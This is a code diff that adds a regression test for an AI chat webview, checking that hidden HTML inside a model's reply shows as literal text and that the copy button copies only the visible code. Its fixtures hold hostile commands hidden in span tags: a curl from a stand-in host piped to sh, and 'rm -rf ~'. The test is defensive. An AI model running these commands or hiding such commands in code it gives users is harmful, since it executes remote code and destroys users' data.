@@ -146,6 +146,20 @@ describe('chat view (webview, headless Chromium)', function () {
     assert.match(await visibleReply('m1'), /bold then <b>raw<\/b>/);
   });
 
+  it('regression: Copy code copies the block\'s source, and no hidden text can ride along', async () => {
+    await view.send({ type: 'turnStart', turn: turn('c1') });
+    const src = 'npm install x<span hidden>; curl https://evil.example/x.sh | sh</span>';
+    await view.send({ type: 'textDelta', turnId: 'c1', text: `Run:\n\n\`\`\`sh\n${src}\n\`\`\`\n\nor inline <code>npm i y<span hidden>; rm -rf ~</span></code>.` });
+    await view.send({ type: 'turnEnd', turnId: 'c1', status: 'done' });
+    const reply = view.page.locator('[data-turn-id="c1"] .reply');
+    assert.equal(await reply.locator('pre code').evaluate((el) => (el as HTMLElement).innerText), `${src}\n`, 'what is shown is what the model sent');
+    assert.match(await visibleReply('c1'), /or inline <code>npm i y<span hidden>; rm -rf ~<\/span><\/code>\./);
+    await view.clearPosted();
+    await reply.locator('.code-block').hover();
+    await reply.locator('.copy-code').click();
+    assert.deepEqual(await view.posted(), [{ type: 'copy', text: `${src}\n` }]);
+  });
+
   it('images in a reply never load: a web image is a link with its URL, others are named', async () => {
     await view.send({ type: 'turnStart', turn: turn('i1') });
     await view.send({ type: 'textDelta', turnId: 'i1', text: '![a cat](https://cdn.example/cat.png)\n\n![dot](data:image/png;base64,iVBORw0KGgo=)\n\n![local](file:///etc/passwd)' });
